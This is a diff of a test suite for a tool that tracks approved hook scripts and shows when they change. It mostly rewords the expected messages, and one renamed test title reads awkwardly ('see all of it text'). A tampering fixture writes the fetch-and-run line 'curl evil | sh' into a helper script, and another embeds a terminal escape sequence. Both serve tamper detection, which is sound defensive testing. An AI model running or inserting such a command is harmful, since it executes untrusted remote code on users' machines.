@@ -22,7 +22,7 @@ describe("trust --show", () => {
     await using place = await approved("a=1\nb=2\nc=3\nd=4\n");
     await place.write(`${HOOKS}/lib.sh`, "a=1\nb=2\nc=3\ncurl evil | sh\n");
     const { stdout } = await runInProcess(place, "trust --show");
-    expect(stdout).toContain("  its own text is as it was approved\n");
+    expect(stdout).toContain("  its own text is unchanged\n");
     expect(stdout).toContain("  lib.sh (changed):\n  line 1\n    a=1\n    b=2\n    c=3\n  - d=4\n  + curl evil | sh\n");
     expect(stdout).not.toContain("echo before_tool_call");
   });
@@ -30,7 +30,7 @@ describe("trust --show", () => {
   test("says that a helper is gone", async () => {
     await using place = await approved("a=1\n");
     spawnSync("rm", [`${place.dir}/${HOOKS}/lib.sh`]);
-    expect((await runInProcess(place, "trust --show")).stdout).toContain("  lib.sh (gone):\n  the file is gone\n");
+    expect((await runInProcess(place, "trust --show")).stdout).toContain("  lib.sh (gone):\n  the file was deleted\n");
   });
 
   test("shows the text of a script with a NUL in it, and of another binary file its size and hash", async () => {
@@ -64,13 +64,13 @@ describe("trust --show", () => {
 describe.skipIf(!hasScript)("at the prompt (needs script of util-linux)", () => {
   const long = `#!/bin/sh\n${":\n".repeat(100)}# the last line\n[ "$1" = hook ] && echo before_tool_call\n`;
 
-  test("v shows the whole text in $PAGER, without what would steer a terminal", async () => {
+  test("press v to see all of it text in $PAGER, without what would steer a terminal", async () => {
     await using place = await workspace();
     await place.write(`${HOOKS}/guard`, `${long}# \u001b[2Jgone\n`, 0o755);
     const pager = await place.write("pager", `#!/bin/sh\ncat > ${shellQuote(place.dir)}/paged\n`, 0o755);
     const line = `PAGER=${shellQuote(pager)} ${hookctl} trust 2>/dev/null`;
     const typed = await runOnTerminal(place, line, ["v\n", "y\n"]);
-    expect(typed).toMatchObject({ code: 0, shown: expect.stringContaining("v shows the whole") });
+    expect(typed).toMatchObject({ code: 0, shown: expect.stringContaining("press v to see all of it") });
     const paged = await place.read("paged");
     expect(paged).toContain("# the last line\n");
     expect(paged).toContain("# \\u001b[2Jgone\n");
